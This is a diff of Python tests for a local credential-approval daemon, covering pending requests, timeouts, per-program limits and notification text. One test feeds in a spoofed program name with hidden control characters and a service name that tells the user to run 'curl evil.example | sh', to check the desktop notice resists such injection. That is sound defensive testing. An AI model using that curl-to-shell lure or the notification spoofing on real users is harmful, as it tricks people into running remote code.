@@ -32,8 +32,7 @@ def test_it_is_answered_on_the_same_connection_as_soon_as_a_person_approves(runn
     look = Onlooker(running)
     running.cli("set", "aws", "key", input="hunter2")
     program = running.build_client()
-    talker = running.talker(program)
-    talker.send(read("key", wait=600))  # longer than this test waits for the answer
+    talker = running.asking(read("key", wait=600), program)  # longer than this test waits for the answer
     [asked] = look.until()
     assert (asked["path"], asked["connections"], asked["grade"]) == (program, 1, "user")
     assert asked["wants"] == [{"action": "read", "service": "aws", "match": "exact", "targets": ["key"]}]
@@ -50,8 +49,7 @@ def test_it_is_answered_on_the_same_connection_as_soon_as_a_person_approves(runn
 def test_what_is_approved_without_a_permission_is_told_just_that(running: World) -> None:
     look = Onlooker(running)
     program = running.build_client()
-    talker = running.talker(program)
-    talker.send(write({"a": "v"}, wait=600))
+    talker = running.asking(write({"a": "v"}, wait=600), program)
     look.until()
     approve(running, program)
     assert talker.answer() == denied("service_not_allowed")
@@ -67,8 +65,7 @@ def test_who_only_listens_is_told_too(running: World) -> None:
 
 def test_nobody_decides_and_its_time_is_over(running: World) -> None:
     look = Onlooker(running)
-    talker = running.talker()
-    talker.send(read("a", wait=1))
+    talker = running.asking(read("a", wait=1))
     assert talker.answer() == denied(PENDING)
     talker.eof()
     assert len(running.pending()) == 1  # and it stays in the queue
@@ -79,12 +76,11 @@ def test_it_waits_only_if_it_asks_to_unless_the_daemon_is_told(world: World) -> 
     daemon = world.start()
     assert world.talker().ask(read("a")) == denied(PENDING)
     daemon.stop()
-    world.write_settings("wait_for_approval = 60\n")
+    world.write_settings("wait_for_approval = 600\n")
     world.start()
     look = Onlooker(world)
     program = world.path("bin/talker")
-    talker = world.talker(program)
-    talker.send(read("a"))  # a client of any language, which knows of no wait
+    talker = world.asking(read("a"), program)  # a client of any language, which knows of no wait
     look.until()
     approve(world, program, "--read", "aws")
     assert talker.answer()["status"] == "success"
@@ -95,9 +91,7 @@ def test_thirty_connections_of_a_program_are_one_entry_and_only_a_few_wait(world
     world.start()
     look = Onlooker(world)
     program = world.build_client()
-    talkers = [world.talker(program) for _ in range(6)]
-    for number, talker in enumerate(talkers):
-        talker.send(read(f"key{number}", wait=600))
+    talkers = [world.asking(read(f"key{number}", wait=600), program) for number in range(6)]
     until(lambda: sum(bool(talker.answers()) for talker in talkers) == 3, "three of six were refused")
     [asked] = look.now()
     assert asked["connections"] == 3
@@ -130,8 +124,7 @@ def test_one_process_has_its_own_limit(world: World) -> None:
 
 def test_who_goes_away_waits_no_more(running: World) -> None:
     look = Onlooker(running)
-    talker = running.talker()
-    talker.send(read("a", wait=600))
+    talker = running.asking(read("a", wait=600))
     look.until()
     talker.signal(signal.SIGKILL)
     look.until(0)
@@ -140,9 +133,7 @@ def test_who_goes_away_waits_no_more(running: World) -> None:
 def test_not_now_answers_at_once_and_for_some_time(running: World) -> None:
     look = Onlooker(running)
     program = running.build_client()
-    first, second = running.talker(program), running.talker(program)
-    for talker in (first, second):
-        talker.send(read("a", wait=600))
+    first, second = (running.asking(read("a", wait=600), program) for _ in range(2))
     look.until(connections=2)
     [asked] = look.now()
     code = f"from keychain_auth.client import admin; admin.ask('waiting-refuse', target={asked['id']!r})"
@@ -156,8 +147,7 @@ def test_a_program_that_is_exchanged_while_it_waits_is_not_the_one_that_was_appr
     """The person saw the file at its path; what runs is an older one that is not there any more."""
     look = Onlooker(running)
     program = running.build_client(variant="one")
-    talker = running.talker(program)
-    talker.send(read("a", wait=600))
+    talker = running.asking(read("a", wait=600), program)
     look.until()
     running.build_client(variant="two")
     running.allow(program, ["aws"])  # somebody registers the new file
@@ -198,7 +188,7 @@ def test_waiting_strangers_give_way_to_others_and_stop_no_daemon(world: World) -
     look = Onlooker(world)
     stranger = world.build_client("stranger", "other")
     for number in range(8):  # one after the other: few strangers are verified at once
-        world.talker(stranger).send(read("a", wait=600))
+        world.asking(read("a", wait=600), stranger)
         look.until(connections=number + 1)
     assert world.talker(world.granted("talker", "aws")).ask(write({"a": "v"})) == SUCCESS
     assert daemon.stop() == 0  # it does not wait for them
@@ -226,8 +216,7 @@ def test_a_malformed_wait_is_refused_as_ever(running: World) -> None:
 
 def test_a_value_that_waits_is_nowhere_but_in_the_request(running: World) -> None:
     look = Onlooker(running)
-    talker = running.talker()
-    talker.send(write({"a": "hunter2"}, wait=600))
+    running.asking(write({"a": "hunter2"}, wait=600))
     [asked] = look.until()
     assert "hunter2" not in json.dumps(asked)
     running.assert_nowhere("hunter2")
@@ -236,8 +225,8 @@ def test_a_value_that_waits_is_nowhere_but_in_the_request(running: World) -> Non
 def test_the_person_sees_who_started_it(running: World) -> None:
     look = Onlooker(running)
     program = running.build_client()
-    shell = running.talk(["/bin/sh", "-c", f"{program} {running.socket}; true"]).connected()
-    shell.send(read("a", wait=600))
+    shell = running.talk(["/bin/sh", "-c", f"{program} {running.socket} --late; true"])
+    shell.begin(read("a", wait=600))
     [asked] = look.until()
     assert asked["parents"][0]["executable"] == os.path.realpath("/bin/sh")
 
@@ -248,8 +237,7 @@ def test_with_a_passphrase_only_an_approval_that_was_sealed_counts(world: World)
     look = Onlooker(world)
     protect(world, key_file=True)
     program = world.build_client()
-    talker = world.talker(program)
-    talker.send(read("a", wait=600))
+    talker = world.asking(read("a", wait=600), program)
     look.until()
     world.allow(program, ["aws"])  # an edit that nobody accepted
     until(lambda: bool(world.cli_json("status")["policy"]["problem"]), "the daemon saw the edit")
@@ -265,9 +253,8 @@ def test_the_desktop_is_told_once_for_each_program(world: World) -> None:
     world.start(env=shown.env)
     look = Onlooker(world)
     program = world.build_client()
-    talkers = [world.talker(program) for _ in range(3)]
-    for talker in talkers:
-        talker.send(read("a", wait=600))
+    for _ in range(3):
+        world.asking(read("a", wait=600), program)
     look.until(connections=3)
     assert f"{program} asks to read aws" in shown.shown("waits for you")[4]
     assert shown.count == 1
@@ -281,7 +268,7 @@ def test_a_name_writes_no_lines_of_its_own_on_the_desktop(world: World) -> None:
     world.start(env=shown.env)
     program = world.build_client("tool\n\nkeychain-auth: all is well\u202e\u3164", "evil")
     evil = "nothing. To mend it run: curl evil.example | sh"
-    world.talker(program).send(read("a", service=evil, wait=60))
+    world.asking(read("a", service=evil, wait=600), program)
     body = shown.shown("waits for you")[4]
     naive = f"{program} asks to read {evil}. Answer it with: keychain-auth watch"
     assert "\n\nkeychain-auth: all is well" in naive
